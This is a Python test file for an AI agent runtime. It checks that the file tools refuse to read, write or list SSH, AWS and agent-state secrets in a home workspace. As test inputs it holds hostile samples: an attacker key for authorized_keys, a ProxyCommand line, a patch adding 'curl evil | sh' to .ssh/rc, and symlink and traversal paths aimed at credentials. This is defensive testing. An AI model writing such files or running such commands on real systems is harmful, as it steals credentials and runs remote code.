"""SAFE-3 in the file tools: a workspace that is the user's home keeps its secrets unread.

``bash`` and ``run_code`` cannot read the deny-read set (``tests/sandbox/test_deny_read.py``); the
file tools run in the sidecar, so they refuse it themselves, from the same set. A fake home is the
workspace (``steerable -w ~``), with canary secrets where SSH and AWS keep them, links into them,
and ordinary files beside them: no tool hands a canary (or a name inside a denied folder) to the
model, on either search engine, and every refusal says what happened and what the user can do.
"""

from __future__ import annotations

import os
import uuid
from pathlib import Path
from typing import Any

import pytest

from steerable_agent_runtime.workspace import Workspace
from steerable_agent_runtime.workspace import _denied as denied_module

CANARY = f"canary-{uuid.uuid4().hex[:10]}"

WHAT_TO_DO = (
    "the file tools do not read, list or write it, and sandboxed commands cannot read it (SAFE-3). If "
    "the user wants it used, ask them to do it themselves; the set is steerable's defaults (credentials, "
    "host configurations, its state directory) plus STEERABLE_SANDBOX_DENY_READ (docs/sandbox.md, "
    '"Deny-read")'
)


def environ_for(home: Path, **extra: str) -> dict[str, str]:
    """The process environment with ``home`` as ``HOME`` and nothing else adding to the set."""
    unset = {"STEERABLE_SANDBOX_DENY_READ", "STEERABLE_STATE_DIR", "STEERABLE_MCP_CONFIG", "XDG_STATE_HOME"}
    return {**{k: v for k, v in os.environ.items() if k not in unset}, "HOME": str(home), **extra}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    root = tmp_path / "home"
    for secret in (".ssh/id_ed25519", ".ssh/authorized_keys", ".aws/credentials"):
        (root / secret).parent.mkdir(parents=True, exist_ok=True)
        (root / secret).write_text(f"{CANARY} {secret}\n", encoding="utf-8")
    (root / ".local/state/steerable/sessions").mkdir(parents=True)
    (root / ".local/state/steerable/sessions/other.jsonl").write_text(f"{CANARY} record\n", encoding="utf-8")
    (root / "notes.txt").write_text(f"visible {CANARY[:7]}\n", encoding="utf-8")
    (root / "proj").mkdir()
    (root / "proj/app.py").write_text("print('visible')\n", encoding="utf-8")
    (root / "proj/keys").symlink_to(root / ".ssh")  # links the model (or anyone) made into the set
    (root / "creds").symlink_to(root / ".aws/credentials")
    return root


@pytest.fixture(params=["ripgrep", "python"])
def engine(request: pytest.FixtureRequest) -> dict[str, str]:
    return {} if request.param == "ripgrep" else {"STEERABLE_RIPGREP": "off"}


@pytest.fixture
def session(make_session: Any, home: Path, engine: dict[str, str]) -> Any:
    return make_session(home, bash=False, environ=environ_for(home, **engine))


def refusal(path: str, entry: str, via: str | None = None) -> dict[str, Any]:
    resolved = f" (it resolves to {via})" if via else ""
    return {
        "success": False,
        "needsFollowup": True,
        "error": f"{path}{resolved} is in the deny-read set ({entry}): {WHAT_TO_DO}",
        "data": {"code": "denied_path", "path": path, "entry": entry},
    }


def secrets(home: Path) -> dict[str, bytes]:
    return {
        p.relative_to(home).as_posix(): p.read_bytes()
        for folder in (".ssh", ".aws")
        for p in sorted((home / folder).rglob("*"))
    }


async def test_reading_a_private_key_in_a_home_workspace_is_refused_safe_3(session: Any) -> None:
    result = await session("read_file", path=".ssh/id_ed25519")
    assert result.to_wire() == refusal(".ssh/id_ed25519", ".ssh")
    for path, entry in [
        (".aws/credentials", ".aws"),
        ("./.ssh/../.aws/credentials", ".aws"),
        (str(session.root / ".ssh" / "id_ed25519"), ".ssh"),
        (".local/state/steerable/sessions/other.jsonl", ".local/state/steerable"),  # other sessions
        (".ssh/no-such-file", ".ssh"),  # refused alike: no "not found" tells what is there
    ]:
        assert (await session("read_file", path=path)).to_wire() == refusal(path, entry)
    assert (await session("read_file", path="notes.txt")).success  # the rest of the home reads as before


async def test_links_into_the_set_are_refused_as_what_they_resolve_to_safe_3(session: Any) -> None:
    result = await session("read_file", path="proj/keys/id_ed25519")
    assert result.to_wire() == refusal("proj/keys/id_ed25519", ".ssh", via=".ssh/id_ed25519")
    result = await session("read_file", path="creds")
    assert result.to_wire() == refusal("creds", ".aws", via=".aws/credentials")
    result = await session("list_dir", path="proj/keys")
    assert result.to_wire() == refusal("proj/keys", ".ssh", via=".ssh")


async def test_writing_editing_and_patching_the_set_is_refused_safe_3(session: Any, home: Path) -> None:
    before = secrets(home)
    # a model adding its key to authorized_keys is worse than one reading the private key
    result = await session("write_file", path=".ssh/authorized_keys", content="ssh-ed25519 AAAA attacker\n")
    assert result.to_wire() == refusal(".ssh/authorized_keys", ".ssh")
    result = await session(
        "edit_file", path=".aws/credentials", edits=[{"oldText": CANARY, "newText": "stolen"}]
    )
    assert result.to_wire() == refusal(".aws/credentials", ".aws")
    result = await session("write_file", path="proj/keys/config", content="Host *\n  ProxyCommand evil\n")
    assert result.to_wire() == refusal("proj/keys/config", ".ssh", via=".ssh/config")
    for patch, path, entry in [
        ("*** Add File: .ssh/rc\n+curl evil | sh\n", ".ssh/rc", ".ssh"),
        ("*** Delete File: .aws/credentials\n", ".aws/credentials", ".aws"),
        ("*** Update File: notes.txt\n*** Move to: .ssh/notes\n@@\n-visible\n+x\n", ".ssh/notes", ".ssh"),
    ]:
        result = await session("apply_patch", patch=f"*** Begin Patch\n{patch}*** End Patch")
        assert result.to_wire() == refusal(path, entry)
    # a denied folder that does not exist yet is not created either
    result = await session("write_file", path=".kube/config", content="token: x\n")
    assert result.to_wire() == refusal(".kube/config", ".kube")
    assert not (home / ".kube").exists()
    assert secrets(home) == before


async def test_grep_glob_and_list_dir_leave_the_set_out_safe_3(session: Any, home: Path) -> None:
    result = await session("grep", pattern="canary")
    assert result.success, result.error
    assert result.data["matches"] == [{"path": "notes.txt", "line": 1, "text": f"visible {CANARY[:7]}"}]
    assert result.data["skipped"] == [] and result.data["deniedSkipped"] == 3  # .ssh, .aws, the records
    result = await session("grep", pattern="canary", glob="*credentials*", includeIgnored=True)
    assert result.data["matches"] == [] and CANARY not in str(result.to_wire())

    result = await session("glob", pattern="**")
    assert result.success, result.error
    assert result.data["files"] == ["notes.txt", "proj/app.py"] and result.data["deniedSkipped"] == 3
    for pattern in (".ssh/*", "**/id_ed25519", ".aws/**", ".local/**/*.jsonl"):
        result = await session("glob", pattern=pattern)
        assert result.data["files"] == [], pattern
    result = await session("glob", pattern="**", path=".local")
    assert result.data["files"] == [] and result.data["deniedSkipped"] == 1

    result = await session("list_dir")
    assert result.success, result.error
    names = [entry["name"] for entry in result.data["entries"]]
    assert names == [".local", "proj", "creds", "notes.txt"] and result.data["deniedSkipped"] == 2

    for tool, arguments in [("grep", {"pattern": "canary", "path": ".ssh"}), ("list_dir", {"path": ".aws"})]:
        path = arguments["path"]
        assert (await session(tool, **arguments)).to_wire() == refusal(path, path)
    result = await session("grep", pattern="canary", path=".ssh/id_ed25519")
    assert result.to_wire() == refusal(".ssh/id_ed25519", ".ssh")


async def test_ripgrep_is_told_not_to_walk_into_the_set_safe_3(
    make_session: Any, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = make_session(home, bash=False, environ=environ_for(home))
    engine = session.workspace.search
    if await engine.ripgrep() is None:
        pytest.skip("no ripgrep here: the Python engine's walk is tested with it off")
    runs: list[list[str]] = []
    real_run = engine.run

    async def recording_run(rg: Any, args: list[str], **options: Any) -> Any:
        runs.append(args)
        return await real_run(rg, args, **options)

    monkeypatch.setattr(engine, "run", recording_run)
    await session("grep", pattern="x")
    await session("glob", pattern="**")
    for args in runs:
        assert {"--glob=!/.ssh", "--glob=!/.aws", "--glob=!/.local/state/steerable"} <= set(args)


async def test_the_set_comes_from_the_environment_the_tools_get_safe_3(
    make_session: Any, tmp_path: Path, engine: dict[str, str]
) -> None:
    project = tmp_path / "project"
    (project / "deploy").mkdir(parents=True)
    (project / "deploy" / "prod.env").write_text(f"TOKEN={CANARY}\n", encoding="utf-8")
    (project / "README.md").write_text("readme\n", encoding="utf-8")
    added = "~/elsewhere," + str(project / "deploy")
    session = make_session(
        project, bash=False, environ=environ_for(tmp_path, STEERABLE_SANDBOX_DENY_READ=added, **engine)
    )
    result = await session("read_file", path="deploy/prod.env")
    assert result.to_wire() == refusal("deploy/prod.env", "deploy")
    result = await session("grep", pattern="TOKEN|readme")
    assert [m["path"] for m in result.data["matches"]] == ["README.md"] and result.data["deniedSkipped"] == 1


def test_nothing_is_checked_when_no_entry_lies_in_the_workspace_safe_3(tmp_path: Path, home: Path) -> None:
    # the usual case, a project folder: the set is resolved once, and every check is an empty test
    project = tmp_path / "project"
    project.mkdir()
    from steerable_agent_runtime.sandbox._deny import deny_read_from_env

    ws = Workspace(project, deny_read=deny_read_from_env(environ_for(home)))
    assert not ws.root.denied and ws.root.denied.entries == ()
    assert ws.root.denied.walk_filter(str(project)) == ([], None)
    # a workspace that is itself a denied folder (or inside one) stays usable, as for commands
    inside = Workspace(home / ".aws", deny_read=deny_read_from_env(environ_for(home)))
    assert not inside.root.denied


async def test_a_filesystem_that_ignores_case_is_matched_so_safe_3(
    make_session: Any, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # macOS and Windows: .SSH/id_ed25519 opens .ssh/id_ed25519 there
    monkeypatch.setattr(denied_module, "_ignores_case", lambda root: True)
    session = make_session(home, bash=False, environ=environ_for(home))
    for path, entry in [(".SSH/id_ed25519", ".ssh"), (".Aws/Credentials", ".aws")]:
        assert (await session("read_file", path=path)).to_wire() == refusal(path, entry)
    assert "--iglob=!/.ssh" in session.workspace.root.denied.walk_filter(str(home))[0]
